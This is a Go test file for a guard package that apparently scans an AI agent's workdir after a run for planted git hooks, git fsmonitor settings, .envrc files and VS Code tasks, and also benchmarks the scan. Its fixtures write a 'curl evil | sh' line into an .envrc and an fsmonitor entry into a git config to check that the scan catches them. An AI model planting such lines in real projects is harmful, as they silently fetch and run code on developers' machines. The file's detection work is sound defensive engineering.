package guard

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestScanTree: the scan over a tree read during the run, before or after
// the agent's changes, finds what a full walk finds (a repository planted
// in an old directory, a nested repository's config and a deep .envrc
// changed in place, a protected name created deep down) and reads only
// the directories that changed; a tree read before a directory was
// replaced is not trusted for it.
func TestScanTree(t *testing.T) {
	root, _ := filepath.EvalSymlinks(t.TempDir())
	for d := 0; d < 50; d++ {
		for f := 0; f < 20; f++ {
			write(t, filepath.Join(root, fmt.Sprintf("d%02d", d), fmt.Sprintf("f%02d", f)), "x")
		}
	}
	write(t, filepath.Join(root, "vendor", "lib", ".git", "config"), "[core]\n")
	write(t, filepath.Join(root, "a", "b", ".envrc"), "export A=1\n")
	time.Sleep(30 * time.Millisecond)
	started := time.Now()
	before := readTree(root, nil)
	if !before.complete || len(before.dirs) < 50 {
		t.Fatalf("the tree was not read: %d dirs, complete %v", len(before.dirs), before.complete)
	}
	time.Sleep(20 * time.Millisecond)
	write(t, filepath.Join(root, "d10", ".git", "hooks", "pre-commit"), "#!/bin/sh\n")
	appendTo(t, filepath.Join(root, "vendor", "lib", ".git", "config"), "[core]\n\tfsmonitor = /tmp/x\n")
	appendTo(t, filepath.Join(root, "a", "b", ".envrc"), "curl evil | sh\n")
	write(t, filepath.Join(root, "d20", "sub", ".vscode", "tasks.json"), "{}")
	after := readTree(root, nil)

	dirReads.Store(0)
	full := scanText(t, root, started, nil, nil)
	fullReads := dirReads.Load()
	for _, want := range []string{"d10/.git/hooks/pre-commit", "vendor/lib/.git/config", "a/b/.envrc", "d20/sub/.vscode"} {
		if !strings.Contains(full, want) {
			t.Errorf("the full scan misses %s:\n%s", want, full)
		}
	}
	for name, tr := range map[string]*tree{"read before the changes": before, "read after them": after} {
		dirReads.Store(0)
		var b strings.Builder
		for _, f := range scan(root, started, nil, nil, nil, tr) {
			b.WriteString(f.Text + "\n")
		}
		if b.String() != full {
			t.Errorf("tree %s: the scan differs from the full one:\n%s\nfull:\n%s", name, b.String(), full)
		}
		// Changed: the root? no; d10 and its new .git's parent, d20,
		// d20/sub, d20/sub/.vscode. Everything else is taken as recorded.
		if n := dirReads.Load(); n > 6 || n*5 > fullReads {
			t.Errorf("tree %s: the scan read %d directories (a full walk reads %d)", name, n, fullReads)
		}
	}

	// A directory replaced after the tree was read (another inode) is read
	// again, whatever its ctime says.
	if err := os.Rename(filepath.Join(root, "d30"), filepath.Join(root, "d30.old")); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(root, "d30", ".envrc"), "planted")
	var b strings.Builder
	for _, f := range scan(root, started, nil, nil, nil, before) {
		b.WriteString(f.Text + "\n")
	}
	if !strings.Contains(b.String(), "d30/.envrc") {
		t.Errorf("a replaced directory's new content was not scanned:\n%s", b.String())
	}
}

func appendTo(t *testing.T, p, s string) {
	t.Helper()
	f, err := os.OpenFile(p, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteString(s); err != nil {
		t.Fatal(err)
	}
}

// TestPrewalkWait: a finished prewalk gives its tree; an incomplete one
// (a bound, or cancelled by the interruption) or none gives nil, and the
// scan then walks in full.
func TestPrewalkWait(t *testing.T) {
	root := t.TempDir()
	write(t, filepath.Join(root, "a", "f"), "x")
	p := startPrewalk(root)
	if tr := p.wait(nil); tr == nil || !tr.complete || len(tr.dirs) != 2 {
		t.Fatalf("a finished prewalk gave %+v", tr)
	}
	done := make(chan struct{})
	close(done)
	if tr := (&prewalk{done: done, cancel: make(chan struct{}), t: &tree{}}).wait(nil); tr != nil {
		t.Errorf("an incomplete tree was used: %+v", tr)
	}
	var none *prewalk
	if none.wait(nil) != nil {
		t.Error("no prewalk gave a tree")
	}
}

// BenchmarkScanAfterRun: the end-of-run scan of a workdir of 100,000
// files in 1,000 directories in which the agent changed 10 files, walked
// in full and over the tree the prewalk read during the run (issue 27:
// under 5 ms).
func BenchmarkScanAfterRun(b *testing.B) {
	root, _ := filepath.EvalSymlinks(b.TempDir())
	for d := 0; d < 1000; d++ {
		dir := filepath.Join(root, fmt.Sprintf("d%03d", d))
		if err := os.MkdirAll(dir, 0o755); err != nil {
			b.Fatal(err)
		}
		for f := 0; f < 100; f++ {
			if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("f%03d", f)), []byte("x"), 0o644); err != nil {
				b.Fatal(err)
			}
		}
	}
	time.Sleep(20 * time.Millisecond)
	started := time.Now()
	tr := readTree(root, nil)
	time.Sleep(20 * time.Millisecond)
	for i := 0; i < 10; i++ {
		if err := os.WriteFile(filepath.Join(root, fmt.Sprintf("d%03d", i*97), "f001"), []byte("changed"), 0o644); err != nil {
			b.Fatal(err)
		}
	}
	for _, c := range []struct {
		name string
		t    *tree
	}{{"full", nil}, {"prewalked", tr}} {
		b.Run(c.name, func(b *testing.B) {
			for b.Loop() {
				if f := scan(root, started, nil, nil, nil, c.t); len(f) != 0 {
					b.Fatalf("findings: %v", f)
				}
			}
		})
	}
	b.Run("prewalk", func(b *testing.B) {
		for b.Loop() {
			if t := readTree(root, nil); !t.complete {
				b.Fatal("incomplete")
			}
		}
	})
}
